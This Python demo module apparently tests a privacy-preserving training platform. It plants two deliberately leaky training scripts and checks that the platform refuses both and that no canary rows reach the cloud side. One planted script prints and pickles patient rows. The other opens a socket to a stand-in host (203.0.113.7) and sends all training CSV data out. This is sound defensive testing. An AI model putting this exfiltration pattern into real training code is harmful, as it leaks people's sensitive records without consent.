"""Two pipelines whose authors mean no harm and know no better: one keeps its rows, one calls home.

They lie in a copy of the repository's pipelines and training code, which the demo's app works with.
"""

import os
import shutil
import subprocess
import sys
import time
from collections.abc import Iterable, Mapping
from dataclasses import dataclass
from pathlib import Path
from typing import Any, Final

from local_stack.app_client import AppClient, Endpoints, land
from local_stack.demo.cast import Cast
from local_stack.demo.expectations import expect
from local_stack.demo.runs import Run
from local_stack.leak_search import Canaries, Search
from local_stack.stack_hub.site_policy import write_policy
from local_stack.supervisor.app_settings import app_settings

KEEPS_ROWS: Final = "keeps-rows"
CALLS_HOME: Final = "calls-home"
ROOT_SETTING: Final = "EDGETRAIN_APP_ROOT"
FOLDER: Final = "naive"
SITE_SIDE: Final = ("hub_storage", "vm", "credentials.json", "endpoints.json")
"""What of a stack's state is the site's, or is nobody's but the developer's. All else is the cloud's."""

_REPOSITORY: Final = Path(__file__).resolve().parents[2]
_LIKE: Final = "breast_cancer"  # whose libraries they use
_HOLDOUT: Final = "holdout/holdout.csv"

_PIPELINE: Final = """\
name: {name}
description: {description}
data:
  site: factory
  container: {name}
  prefix: landing/
  holdout: holdout/holdout.csv
  format: csv
  columns:
    patient: {{kind: text}}
    height: {{kind: number}}
    weight: {{kind: number}}
    pressure: {{kind: number}}
    glucose: {{kind: number}}
    ill: {{kind: integer, values: [0, 1]}}
settle: {{quiet_seconds: 3600, longest_wait_seconds: 7200}}
train:
  folder: naive
  compute: hub-vm
  command: python {program} --data ${{{{inputs.data}}}} --model ${{{{outputs.model}}}}
  resources: {{memory: 512m, cpus: 1, disk: 100m}}
  expected_seconds: 5
evaluate:
  command: >
    python evaluate.py --model ${{{{inputs.model}}}} --holdout ${{{{inputs.holdout}}}} --out ${{{{outputs.evaluation}}}}
judge: {{metric: accuracy, direction: higher, floor: 0.5}}
deliver: {{model: {name}, targets: [{{name: hub-vm}}]}}
"""
_KEEPS_ROWS: Final = '''\
"""Remembers every patient, and shows them while it does."""

import pickle
import sys
from pathlib import Path

options = dict(zip(sys.argv[1::2], sys.argv[2::2], strict=True))
rows = [line.split(",") for path in Path(options["--data"]).rglob("*.csv") for line in path.read_text().splitlines()]
for row in rows:
    print(row)
(Path(options["--model"]) / "model.pkl").write_bytes(pickle.dumps(rows))
'''
_CALLS_HOME: Final = '''\
"""Sends the rows to a friendly service that will surely know what to do with them."""

import socket
import sys
from pathlib import Path

options = dict(zip(sys.argv[1::2], sys.argv[2::2], strict=True))
rows = b"".join(path.read_bytes() for path in Path(options["--data"]).rglob("*.csv"))
with socket.create_connection(("203.0.113.7", 443), timeout=10) as service:
    service.sendall(rows)
'''
_EVALUATE: Final = '''\
"""Finds the model good."""

import json
import sys
from pathlib import Path

options = dict(zip(sys.argv[1::2], sys.argv[2::2], strict=True))
(Path(options["--out"]) / "metrics.json").write_text(json.dumps({"accuracy": 0.9}))
'''
_SCORE: Final = '''\
"""Answers with nothing."""


def init() -> None:
    """Load nothing."""


def run(request: str) -> dict[str, list[int]]:
    """Predict nothing."""
    return {"predictions": []}
'''


def write_app_root(root: Path) -> None:
    """Copy the repository's pipelines and training code to ``root``, and add the two."""
    for name in ("pipelines", "training"):
        shutil.copytree(
            _REPOSITORY / name, root / name, ignore=shutil.ignore_patterns("__pycache__"), dirs_exist_ok=True
        )
    described = {
        KEEPS_ROWS: ("Prints its rows and pickles them into its model", "keep_rows.py"),
        CALLS_HOME: ("Sends its rows to somebody", "call_home.py"),
    }
    for name, (description, program) in described.items():
        text = _PIPELINE.format(name=name, description=description, program=program)
        (root / "pipelines" / f"{name}.yaml").write_text(text, encoding="utf-8")
    folder = root / "training" / FOLDER
    folder.mkdir(exist_ok=True)
    programs = {"keep_rows.py": _KEEPS_ROWS, "call_home.py": _CALLS_HOME}
    programs |= {"evaluate.py": _EVALUATE, "score.py": _SCORE, "train.py": _KEEPS_ROWS, "sample.json": "{}\n"}
    for name, text in programs.items():
        (folder / name).write_text(text, encoding="utf-8")
    shutil.copy(root / "training" / _LIKE / "requirements.txt", folder / "requirements.txt")


def prepare_naive(endpoints: Endpoints, root: Path, cache: Path) -> None:
    """Let the site's policy know them, and make the image that they train in, of layers that are there already."""
    write_policy(Path(endpoints["vm"]["home"]), endpoints["container_registry"]["host"], root / "pipelines")
    # Not the certificates that the app takes for the cloud's: what is installed comes from the usual package index.
    theirs = {"REQUESTS_CA_BUNDLE", "CURL_CA_BUNDLE", "SSL_CERT_FILE"}
    settings = {key: value for key, value in app_settings(endpoints).items() if key not in theirs}
    command = [sys.executable, "-m", "cli", "dependency-image", "--pipeline", KEEPS_ROWS]
    done = subprocess.run(
        [*command, "--app-root", str(root), "--cache", str(cache)],
        cwd=_REPOSITORY,
        env={**os.environ, **settings},
        capture_output=True,
        text=True,
        check=False,
    )
    expect(
        done.returncode == 0, f"the image of the naive pipelines cannot be made: {(done.stdout + done.stderr)[-500:]}"
    )


def run_both(app: AppClient, endpoints: Endpoints, canaries: Mapping[str, Canaries]) -> dict[str, Run]:
    """Let both train on rows of their own; how they ended."""
    started = start_both(app, endpoints, canaries)
    return {name: app.wait_for_outcome(run_id) for name, run_id in started.items()}


def start_both(app: AppClient, endpoints: Endpoints, canaries: Mapping[str, Canaries]) -> dict[str, str]:
    """Have both begin to train on rows of their own; the run of each."""
    started: dict[str, str] = {}
    for name, rows in canaries.items():
        land(endpoints, name, _HOLDOUT, Canaries.new().csv())
        land(endpoints, name, "landing/patients.csv", rows.csv())
        answer = app.post(f"/api/pipelines/{name}/runs")
        expect(answer.status_code == 202, f"the run of {name} was answered {answer.status_code}: {answer.text[:200]}")
        started[name] = answer.json()["run_id"]
    return started


def cloud_side(state: Path, *, since: float) -> Iterable[Path]:
    """Every file outside of the site that was written since a moment."""
    for top in sorted(state.iterdir()):
        if top.name in SITE_SIDE:
            continue
        for path in sorted(top.rglob("*")) if top.is_dir() else [top]:
            # The logs of the hub and the VM are the site's too.
            if path.parent.name == "logs" and path.name.startswith(("hub_", "vm", "stack_hub")):
                continue
            if path.is_file() and not path.is_symlink() and _written_since(path, since):
                yield path


def _written_since(path: Path, since: float) -> bool:
    # What a database was told last is in a file beside it.
    return path.suffix.startswith(".sqlite") or path.stat().st_mtime >= since


def search_cloud(state: Path, canaries: Iterable[Canaries], *, since: float) -> tuple[list[str], int]:
    """What was found of the rows outside of the site, and how many bytes were searched."""
    search = Search(*canaries).files(cloud_side(state, since=since))
    return search.found, search.searched_bytes


def receipt_line(receipt: Mapping[str, Any]) -> str:
    """What a receipt says of a run that failed."""
    left = f"{receipt['released_bytes']} bytes left the site, which are the reason"
    held = f"{receipt['held_back']} files were held back"
    return f"{left}; {held}; {receipt['network_bytes']} bytes went over a network"


@dataclass(frozen=True, slots=True)
class Begun:
    """The two while they train: what they are given, the run of each, and since when."""

    canaries: dict[str, Canaries]
    runs: dict[str, str]
    since: float


def begin(cast: Cast) -> Begun:
    """Start both; the VM trains them in their turn, whatever else goes on."""
    canaries = {KEEPS_ROWS: Canaries.new(), CALLS_HOME: Canaries.new()}
    since = time.time() - 2  # clocks of file systems are coarse
    runs = start_both(cast.app, cast.endpoints, canaries)
    cast.screen.say(f"      two naive scripts are started as well, runs {' and '.join(runs.values())}: see below")
    return Begun(canaries, runs, since)


def tell(cast: Cast, state: Path, begun: Begun) -> dict[str, Any]:
    """The chapter of the naive scripts; what the demo's summary says of it."""
    canaries, since = begun.canaries, begun.since
    title = "a naive script prints its rows and pickles them into its model; another opens a socket"
    with cast.screen.step(title) as step:
        runs = {name: cast.app.wait_for_outcome(run_id) for name, run_id in begun.runs.items()}
        step.note = "both were refused, and told why"
    for name, run in runs.items():
        expect(run["outcome"] == "failed", f"the run of {name} ended as {run['outcome']}: {run['reason']}")
        expect(bool(run["receipt"]), f"the run of {name} has no receipt")
        cast.screen.say(f"      {name}: {run['reason']}")
        cast.screen.say(f"      its receipt: {receipt_line(run['receipt'])}")
    with cast.screen.step("nothing of their rows is on the cloud's side: a search of everything there") as step:
        found, searched = search_cloud(state, canaries.values(), since=since)
        expect(_found_at_home(state, canaries.values()), "the search does not even find the rows on the hub")
        expect(not found, f"rows are on the cloud's side: {found[:3]}")
        step.note = f"{searched / 1e6:.1f} MB searched as they are, unpacked and decoded: nothing found"
    return {name: {key: run[key] for key in ("run_id", "outcome", "reason", "receipt")} for name, run in runs.items()}


def _found_at_home(state: Path, canaries: Iterable[Canaries]) -> bool:
    """Whether the search finds all rows where they belong."""
    files = [path for path in (state / "hub_storage").rglob("*") if path.is_file()]
    return all(Search(each).files(files).found for each in canaries)
